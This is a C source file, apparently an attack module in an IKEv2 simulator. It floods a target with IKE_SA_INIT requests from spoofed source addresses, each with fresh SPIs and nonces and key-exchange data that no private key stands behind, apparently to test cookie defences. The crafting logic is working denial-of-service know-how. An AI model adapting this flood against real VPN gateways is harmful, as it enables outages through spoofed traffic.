/*
 * spoof_flood: IKE_SA_INIT requests at a fixed rate, each from a source drawn from a prefix the attacker does
 * not own, each with a fresh SPI and nonce and a KE of the right length that no private key stands behind
 * (random bytes for Curve25519/448 and MODP; one real point reused for ECP, where random bytes are no point).
 * The replies go to the spoofed sources, so the flooder never sees a COOKIE: that is what cookies count on.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "attack_int.h"
#include "crypto/dh.h"
#include "crypto/registry.h"

#define NONCE_LEN 32

/* A source address in prefix/plen: the prefix's bits, then random host bits; port 500. */
static ike_addr spoofed(sim_atk *a)
{
	const sim_attack_spec *s = a->spec;
	ike_addr x = s->prefix;
	size_t bytes = x.family == 4 ? 4 : 16;
	uint8_t rnd[16];
	ike_drbg_bytes(&a->rng, rnd, sizeof(rnd));
	for (size_t i = 0; i < bytes; i++) {
		unsigned keep = s->plen >= 8 * (i + 1) ? 8 : s->plen > 8 * i ? s->plen - 8 * i : 0;
		uint8_t mask = (uint8_t)(keep ? 0xff << (8 - keep) : 0);
		x.ip[i] = (uint8_t)((x.ip[i] & mask) | (rnd[i] & (uint8_t)~mask));
	}
	x.port = 500;
	return x;
}

/* The KE data: fresh random bytes where they make a valid public value, else the stored point. */
static void ke_data(sim_atk *a, uint16_t group, uint8_t *out, size_t len)
{
	if (a->ke) {
		memcpy(out, a->ke, len);
		return;
	}
	ike_drbg_bytes(&a->rng, out, len);
	if (group != IKE_DH_CURVE25519 && group != IKE_DH_CURVE448)
		out[0] = (uint8_t)((out[0] & 0x7f) | 0x40); /* MODP: 1 < y < p - 1, whatever the rest */
}

static void send_one(sim_atk *a, int64_t now)
{
	const sim_attack_spec *s = a->spec;
	v2_sa sa;
	sim_atk_v2_sa(&s->ike, &sa);
	uint16_t group = s->ike.p[0].dh[0].id;
	size_t ke_len = ike_dh_public_len(group);
	uint8_t ke[1024], nonce[NONCE_LEN], buf[2048];
	if (ke_len > sizeof(ke))
		return;
	ke_data(a, group, ke, ke_len);
	ike_drbg_bytes(&a->rng, nonce, sizeof(nonce));
	v2_header h = { .major = 2, .exchange = V2_IKE_SA_INIT, .flags = V2_F_INITIATOR };
	ike_drbg_bytes(&a->rng, &h.spi_i, sizeof(h.spi_i));
	h.spi_i |= 1; /* an SPI is never zero */
	v2_builder b;
	v2_begin(&b, buf, sizeof(buf), &h);
	v2_add_sa(&b, &sa);
	v2_add_ke(&b, group, ke, ke_len);
	v2_add_nonce(&b, nonce, sizeof(nonce));
	size_t len = v2_finish(&b, 0);
	if (!len) {
		a->r->failed = "the flood's IKE_SA_INIT does not fit in 2048 bytes";
		return;
	}
	ike_addr from = spoofed(a);
	char fa[64], ta[64], f[256];
	sim_atk_addr(&from, fa, sizeof(fa));
	sim_atk_addr(&s->target, ta, sizeof(ta));
	a->count++;
	snprintf(f, sizeof(f), "\"from\":\"%s\",\"to\":\"%s\",\"initiator-spi\":\"%016llx\",\"size\":%zu,\"n\":%llu", fa, ta,
		 (unsigned long long)h.spi_i, len, (unsigned long long)a->count);
	sim_atk_event(a, now, "attack.flood", f);
	a->r->be.send(a->r->be.impl, s->node, &from, &s->target, buf, len);
}

static void tick(void *arg)
{
	sim_atk *a = arg;
	runner *r = a->r;
	int64_t now = r->be.now(r->be.impl);
	send_one(a, now);
	/* the k-th request at start + k / rate exactly: no drift from rounding each gap */
	double at = (double)a->spec->start + (double)a->count * 1e9 / a->spec->rate;
	int64_t next = at > 9e18 ? INT64_MAX : (int64_t)at;
	if (next < a->spec->stop && next <= r->sc->duration && !r->failed) {
		if (r->be.schedule(r->be.impl, next < now ? now : next, tick, a))
			r->failed = "out of memory scheduling the flood";
		return;
	}
	char f[64];
	snprintf(f, sizeof(f), "\"sent\":%llu", (unsigned long long)a->count);
	sim_atk_event(a, now, "attack.done", f);
}

int sim_atk_flood_setup(sim_atk *a)
{
	const sim_attack_spec *s = a->spec;
	uint16_t group = s->ike.p[0].dh[0].id;
	char f[800], ta[64], sa_text[300];
	v2_sa sa;
	if (group >= IKE_DH_ECP256 && group <= IKE_DH_ECP521) {
		ike_dh *dh = NULL;
		a->ke_len = ike_dh_public_len(group);
		if (!(a->ke = malloc(a->ke_len)) || ike_dh_generate(a->r->crypto, group, &a->rng, &dh) ||
		    ike_dh_public(dh, a->ke, a->ke_len)) {
			ike_dh_free(dh);
			return -1;
		}
		ike_dh_free(dh);
	}
	sim_atk_v2_sa(&s->ike, &sa);
	sim_atk_format_sa(&sa, sa_text, sizeof(sa_text));
	sim_atk_addr(&s->target, ta, sizeof(ta));
	char pfx[64];
	sim_atk_addr(&s->prefix, pfx, sizeof(pfx));
	*strrchr(pfx, ':') = 0; /* no port: a prefix */
	snprintf(f, sizeof(f), "\"kind\":\"spoof_flood\",\"target\":\"%s\",\"sources\":\"%s/%u\",\"rate\":%g,\"from\":%.9f,\"until\":%.9f,\"offer\":\"%s\"",
		 ta, pfx, s->plen, s->rate, (double)s->start / 1e9, (double)s->stop / 1e9, sa_text);
	sim_atk_event(a, 0, "attack.start", f);
	if (s->start > a->r->sc->duration)
		return 0;
	return a->r->be.schedule(a->r->be.impl, s->start, tick, a);
}
